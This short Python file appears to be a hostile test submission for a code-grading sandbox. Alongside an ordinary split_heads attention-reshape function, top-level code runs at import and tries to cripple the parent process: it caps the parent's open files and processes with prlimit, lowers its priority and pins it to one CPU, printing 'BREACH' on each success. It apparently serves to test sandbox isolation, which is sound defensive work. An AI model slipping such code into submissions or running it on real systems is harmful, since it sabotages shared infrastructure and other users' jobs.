"""Lowers the limits of its parent, so that the next submission could not start."""

import os
import resource

parent = os.getppid()
print("TRIED", flush=True)
if parent > 1:
    for attempt in (
        lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (3, 3)),
        lambda: resource.prlimit(parent, resource.RLIMIT_NPROC, (0, 0)),
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.sched_setaffinity(parent, {0}),
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            attempt()
            print("BREACH")
        except OSError:
            pass


def split_heads(x, num_heads):
    batch, seq_len, d_model = x.shape
    return x.reshape(batch, seq_len, num_heads, d_model // num_heads).swapaxes(1, 2)
